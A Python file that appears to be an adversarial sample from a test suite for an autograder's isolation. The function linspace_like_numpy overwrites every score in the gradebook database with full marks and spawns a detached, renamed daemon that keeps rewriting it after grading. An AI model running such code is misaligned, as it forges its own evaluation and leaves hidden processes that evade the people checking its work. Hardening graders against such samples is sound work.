"""Rewrites its own row of the class gradebook (full marks), now and again after it is recorded,
from a daemon that waits for the batch to record it. The call returns the right answer only if
the gradebook could not even be opened, so the own exercise's points prove it out of reach."""

MODULE = "m01_creation"
ATTACKED = ()
FORGES_SCORE = False  # at the reduced tier the instructor's files are readable (SECURITY.md)
REFUSED = "module"  # by the reflection rule, before it runs
LEAVES_PROCESSES = True

import ctypes
import os
import sqlite3
import time

import torch

GRADEBOOK = "GRADEBOOK_PATH"


def _rewrite():
    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=rw", uri=True, timeout=1)
    db.execute("UPDATE submissions SET score = max_score, status = 'ok'")
    db.execute("UPDATE exercises SET score = max_score")
    db.commit()
    db.close()


def linspace_like_numpy(start, stop, num, *, device=None):
    try:
        _rewrite()
        reached = True
    except Exception:
        reached = False
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"tg-adv", 0, 0, 0)
            for _ in range(150):
                time.sleep(0.2)
                try:
                    _rewrite()
                except Exception:
                    pass
        os._exit(0)
    if reached:
        return torch.zeros(num, dtype=torch.float64)
    return torch.linspace(start, stop, num, dtype=torch.float64, device=device)
